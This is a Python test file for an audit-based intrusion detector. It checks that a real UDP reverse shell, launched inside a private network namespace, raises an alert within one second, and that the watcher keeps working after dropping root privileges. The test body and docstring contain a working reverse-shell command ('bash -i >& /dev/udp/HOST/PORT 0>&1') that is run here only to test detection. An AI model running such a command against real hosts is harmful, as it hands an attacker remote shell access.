"""End to end, as root against the real kernel: a real UDP reverse shell raises an alert within 1 s.

The audit rules are installed with ``auditeql audit-rules --install`` (under a key unique to the
test), ``auditeql watch --source netlink`` runs as a subprocess, and a real
``bash -i >& /dev/udp/HOST/PORT 0>&1`` connects to a listener in a private network namespace.
A webhook that never answers is configured too: detection must not wait for it.
Everything (rules, processes, namespaces) is removed even when the test fails.
"""

from __future__ import annotations

import http.server
import os
import signal
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import orjson
import pytest

from tests.watch.conftest import SERVER4, NetnsHost, wait_for

pytestmark = pytest.mark.kernel

SEED_ID = "a5eb21b7-13cc-4b94-9fe2-29bb2914e037"
AUDITEQL = [sys.executable, "-m", "auditeql.cli"]


class WatchProcess:
    """``auditeql watch`` as a subprocess; stdout lines are time-stamped the moment they arrive."""

    def __init__(self, args: list[str]) -> None:
        self.proc = subprocess.Popen([*AUDITEQL, "watch", *args], stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                                     start_new_session=True)
        self.lines: list[tuple[float, dict[str, Any]]] = []
        self.stderr: list[str] = []
        self._threads = [threading.Thread(target=self._pump_out, daemon=True),
                         threading.Thread(target=self._pump_err, daemon=True)]
        for t in self._threads:
            t.start()

    def _pump_out(self) -> None:
        assert self.proc.stdout is not None
        for raw in self.proc.stdout:
            self.lines.append((time.monotonic(), orjson.loads(raw)))

    def _pump_err(self) -> None:
        assert self.proc.stderr is not None
        for raw in self.proc.stderr:
            self.stderr.append(raw.decode(errors="replace"))

    def err_text(self) -> str:
        return "".join(self.stderr)

    def stop(self) -> int:
        if self.proc.poll() is None:
            self.proc.send_signal(signal.SIGTERM)
        try:
            return self.proc.wait(timeout=15)
        finally:
            if self.proc.poll() is None:
                os.killpg(self.proc.pid, signal.SIGKILL)
                self.proc.wait()
            for t in self._threads:
                t.join(timeout=2)


@pytest.fixture
def installed_rules(kernel_audit: None, audit_key: str) -> Iterator[str]:
    """The rules `auditeql audit-rules --install` derives, under this test's key; removed afterwards."""
    try:
        out = subprocess.run([*AUDITEQL, "audit-rules", "--install", "--key", audit_key],
                             capture_output=True, text=True, timeout=60)
        assert out.returncode == 0, out.stderr
        yield audit_key
    finally:
        subprocess.run([*AUDITEQL, "audit-rules", "--uninstall", "--key", audit_key], capture_output=True, timeout=60)
        from auditeql.watch import audit_rules

        assert audit_rules.installed_rules(audit_key) == []


@pytest.fixture
def hanging_webhook() -> Iterator[str]:
    """A real HTTP endpoint on 127.0.0.1 that accepts the connection and never answers."""
    release = threading.Event()
    hits: list[int] = []

    class Handler(http.server.BaseHTTPRequestHandler):
        def do_POST(self) -> None:  # noqa: N802
            hits.append(1)
            release.wait(30)

        def log_message(self, *args: Any) -> None:
            pass

    httpd = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    httpd.daemon_threads = True
    threading.Thread(target=httpd.serve_forever, daemon=True).start()
    try:
        yield f"http://127.0.0.1:{httpd.server_address[1]}/alerts"
    finally:
        release.set()
        httpd.shutdown()
        httpd.server_close()


def _seed_group_to(watch: WatchProcess, ip: str) -> float | None:
    """Arrival time of the first seed-rule alert document involving ``ip`` as destination."""
    for arrived, doc in list(watch.lines):
        if doc.get("kibana.alert.rule.rule_id") != SEED_ID:
            continue
        dest = doc.get("destination", {}).get("ip") if isinstance(doc.get("destination"), dict) else doc.get("destination.ip")
        if dest == ip:
            return arrived
    return None


def _connect_time(watch: WatchProcess, ip: str) -> float:
    """Audit time (epoch seconds) of the connect() event in the seed alert group."""
    from auditeql.engine.ordering import timestamp_ms

    for _arrived, doc in list(watch.lines):
        dest = doc.get("destination", {}).get("ip") if isinstance(doc.get("destination"), dict) else doc.get("destination.ip")
        if doc.get("kibana.alert.rule.rule_id") == SEED_ID and dest == ip and doc.get("kibana.alert.original_time"):
            return float(timestamp_ms(doc["kibana.alert.original_time"])) / 1000.0
    raise AssertionError("no connect event in the alert group")


def test_udp_reverse_shell_alerts_within_one_second(
    installed_rules: str, test_host: NetnsHost, hanging_webhook: str, tmp_path: Path
) -> None:
    store = tmp_path / "alerts.db"
    watch = WatchProcess(["--source", "netlink", "--format", "ndjson", "--store", str(store),
                          "--health-interval", "0", "--webhook", hanging_webhook])
    try:
        assert wait_for(lambda: "watching netlink" in watch.err_text(), 20), watch.err_text()
        time.sleep(0.2)  # the multicast subscription is open before the message; a margin anyway

        launched, launched_wall = time.monotonic(), time.time()
        shell = test_host.spawn(["bash", "-c", f"bash -i >& /dev/udp/{SERVER4}/{test_host.port} 0>&1"],
                                stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        assert wait_for(lambda: _seed_group_to(watch, SERVER4) is not None, 5), (
            f"no alert for the reverse shell; watch said:\n{watch.err_text()}"
        )
        arrived = _seed_group_to(watch, SERVER4)
        assert arrived is not None
        latency = arrived - launched
        connect_wall = _connect_time(watch, SERVER4)
        arrived_wall = launched_wall + latency
        print(f"alert {latency * 1000:.0f} ms after launching the shell; connect() at +"
              f"{(connect_wall - launched_wall) * 1000:.0f} ms, alert {(arrived_wall - connect_wall) * 1000:.0f} ms after it")
        assert latency < 1.0, f"alert arrived {latency:.3f}s after launching the shell"

        # the listener answered "exit": the shell ends by itself (killed at clean-up otherwise)
        try:
            shell.wait(timeout=5)
        except subprocess.TimeoutExpired:
            pass

        # the alert group is complete: shell + 3 building blocks (execve, socket, connect)
        groups = {d["kibana.alert.group.id"] for _, d in watch.lines if d.get("kibana.alert.rule.rule_id") == SEED_ID}
        assert groups
        # SIGUSR1: a health line with the kernel counters, promptly
        watch.proc.send_signal(signal.SIGUSR1)
        assert wait_for(lambda: "kernel_lost=" in watch.err_text(), 3), watch.err_text()
        health = [line for line in watch.err_text().splitlines() if "auditeql health:" in line][-1]
        assert "kernel_backlog=" in health and "events_per_s=" in health and "engine_state=" in health
    finally:
        code = watch.stop()
    assert code == 0, watch.err_text()
    # the alert reached the store too
    from auditeql.alerts.store import AlertStore

    with AlertStore(str(store)) as s:
        stored = s.groups(rule_id=SEED_ID)
    assert any(a.uuid in groups for a in stored)


def test_user_drop_keeps_reading_the_audit_stream(installed_rules: str, tmp_path: Path) -> None:
    """--user: root is given up once the socket is open; the multicast stream keeps flowing."""
    import pwd
    import uuid

    from tests.watch.test_watch_file import EVERY_EVENT

    try:
        nobody = pwd.getpwnam("nobody")
    except KeyError:
        pytest.skip("no 'nobody' user on this machine")
    rules = tmp_path / "rules"
    rules.mkdir()
    (rules / "every.toml").write_text(EVERY_EVENT)
    watch = WatchProcess(["--source", "netlink", "--format", "ndjson", "--no-store", "--health-interval", "0",
                          "--no-builtin", "--rules-dir", str(rules), "--user", "nobody"])
    try:
        assert wait_for(lambda: "watching netlink" in watch.err_text(), 20), watch.err_text()
        status = Path(f"/proc/{watch.proc.pid}/status").read_text()
        uids = next(line for line in status.splitlines() if line.startswith("Uid:")).split()[1:]
        assert uids == [str(nobody.pw_uid)] * 4, status
        marker = uuid.uuid4().hex
        subprocess.run(["/bin/echo", marker], stdout=subprocess.DEVNULL, check=True)
        assert wait_for(lambda: any(marker in orjson.dumps(d).decode() for _, d in watch.lines), 5), watch.err_text()
        watch.proc.send_signal(signal.SIGUSR1)
        assert wait_for(lambda: "kernel=unavailable" in watch.err_text(), 3), watch.err_text()
    finally:
        code = watch.stop()
    assert code == 0, watch.err_text()
